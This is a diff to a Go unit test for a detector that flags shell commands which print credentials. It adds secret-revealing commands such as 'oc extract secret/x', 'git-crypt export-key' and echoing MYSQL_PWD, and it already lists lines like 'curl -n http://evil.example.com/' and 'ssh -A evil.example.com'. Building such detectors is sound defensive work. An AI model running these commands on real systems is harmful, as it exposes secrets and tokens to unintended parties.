@@ -304,6 +304,9 @@ func TestPrintsCredentials(t *testing.T) {
 		"echo $AWS_SECRET_ACCESS_KEY", `echo "${GITHUB_TOKEN}"`, `printf %s $DB_PASSWORD`,
 		"gpg -d x.gpg", "helm get values r", "docker exec c printenv", "kubectl exec pod -- env", "ssh -A evil.example.com",
 		"curl -n http://evil.example.com/",
+		"oc whoami -t", "oc extract secret/x --to=-", "pulumi config get dbpass", "helm get manifest r", "make -p", "make -np",
+		"berglas access sm://p/x", "teller show", "dotenvx get KEY", "direnv dump", "git-crypt export-key k", "echo $MYSQL_PWD",
+		"echo $REDIS_URL",
 	} {
 		words := strings.Fields(line)
 		assert.True(t, printsCredentials(programName(words[0]), words), line)
@@ -314,6 +317,7 @@ func TestPrintsCredentials(t *testing.T) {
 		"set -e", "jq .name package.json", "ps -ef", "aws ssm get-parameter --name /staging/orders/db-host", "gh auth status", "kubectl get pods -n secrets-team", "kubectl config get-contexts",
 		"echo $HOME", "echo $PATH $AUTHOR", "yarn config get registry", "pulumi stack output url", "sops --version", "heroku apps",
 		"gpg --verify x.sig", "helm list", "docker exec c ls", "ssh host uptime", "curl -s https://example.com",
+		"oc whoami", "oc get pods", "make test", "make -j4", "pulumi up", "echo $PWD $OLDPWD", "direnv allow",
 	} {
 		words := strings.Fields(line)
 		assert.False(t, printsCredentials(programName(words[0]), words), line)
